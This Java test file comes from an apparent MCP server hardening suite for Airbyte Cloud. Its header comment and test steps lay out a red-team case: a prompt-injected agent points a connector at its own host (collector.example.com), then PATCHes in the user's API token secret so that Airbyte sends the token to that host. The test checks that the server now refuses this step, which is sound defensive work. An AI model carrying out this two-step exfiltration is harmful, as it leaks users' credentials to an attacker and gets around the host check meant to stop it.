package airbytemcp.hardening;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import airbytemcp.cloud.FakeAirbyte;
import airbytemcp.hardening.InjectedAgentWorld.Answer;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Red team m3: the host check for Cloud looked only at the config of the call at hand. A
 * prompt-injected agent (safe mode on, as by default) first deploys a Jira-like source pointed at
 * its own host with no secret at all (nothing to protect, so the host passes), then calls
 * update_cloud_connector_config with only {@code api_token: secret_reference::...} (no host in the
 * call, so it passes too). The update is a PATCH, which Airbyte merges into the stored config (the
 * public API's PATCH is the partial update; PUT is the one that "fully overwrites"), so the actor
 * ends with the user's token beside the agent's domain, and Airbyte sends the token there on the
 * next check or sync (check_cloud_connector, run_cloud_sync, both allowed even in read-only mode).
 * An update that adds a secret is now checked merged into the config Airbyte shows for the actor.
 */
@Timeout(value = 5, unit = TimeUnit.MINUTES)
class CloudSecretAddedToAnActorPointedAtTheAgentsHostTest {
  private static final String CONNECTOR = "source-jiralike";
  private static final String DEFINITION = "00000000-0000-4000-8000-0000000000d6";
  private static final String AGENT_HOST = "collector.example.com";

  @TempDir static Path dir;
  static InjectedAgentWorld world;

  @BeforeAll
  static void start() throws IOException {
    world =
        new InjectedAgentWorld(dir.resolve("cloud-two-step"))
            .withRegistry(
                """
                {"sources": [
                  {"sourceDefinitionId": "%s", "name": "Jira-like", "dockerRepository": "airbyte/%s",
                   "dockerImageTag": "1.0.0", "language": "python",
                   "allowedHosts": {"hosts": ["${domain}"]},
                   "spec": {"connectionSpecification": {"type": "object", "properties": {
                     "domain": {"type": "string"},
                     "api_token": {"type": "string", "airbyte_secret": true}}}}}],
                 "destinations": []}
                """
                    .formatted(DEFINITION, CONNECTOR))
            .with("AIRBYTE_CLOUD_MCP_SAFE_MODE", "1")
            .start();
    // the fake's create answers with FakeAirbyte.SOURCE; describe it as made from source-jiralike
    world.deployedSource("pointed", FakeAirbyte.SOURCE, DEFINITION);
  }

  @AfterAll
  static void stop() {
    if (world != null) {
      world.close();
    }
  }

  @Test
  void aSecretIsNotAddedToASourceTheCallPointedAtItsOwnHost() {
    Answer first =
        world.call(
            "deploy_connector_to_cloud",
            Map.of(
                "name",
                "pointed",
                "connector_name",
                CONNECTOR,
                "config",
                Map.of("domain", AGENT_HOST)));
    assertFalse(first.isError(), "step 1 (no secret, so the host passes): " + first.text());

    // Airbyte now holds the agent's domain for the source, and shows it
    world.deployedSource(
        "pointed", FakeAirbyte.SOURCE, DEFINITION, "{\"domain\": \"" + AGENT_HOST + "\"}");
    world.airbyte.server.resetRequests();
    Answer second =
        world.call(
            "update_cloud_connector_config",
            Map.of(
                "connector_id",
                FakeAirbyte.SOURCE,
                "config",
                Map.of("api_token", "secret_reference::FAKE_API_KEY")));
    assertNull(second.leak(), second.text());
    assertTrue(
        second.isError() && second.text().contains("Nothing was sent to Airbyte"),
        "the update was not refused: " + second.text());
    String patched =
        world.airbyte.server.getAllServeEvents().stream()
            .filter(e -> e.getRequest().getMethod().getName().equals("PATCH"))
            .map(e -> e.getRequest().getBodyAsString())
            .toList()
            .toString();
    assertEquals(
        null,
        InjectedAgentWorld.leakIn(patched),
        "the user's token was PATCHed (merged) into a source this session pointed at "
            + AGENT_HOST
            + "; Airbyte sends it there on the next check: "
            + patched.replace(InjectedAgentWorld.DOTENV_KEY, "<DOTENV_KEY>")
            + "\nanswer: "
            + second.text());
  }
}
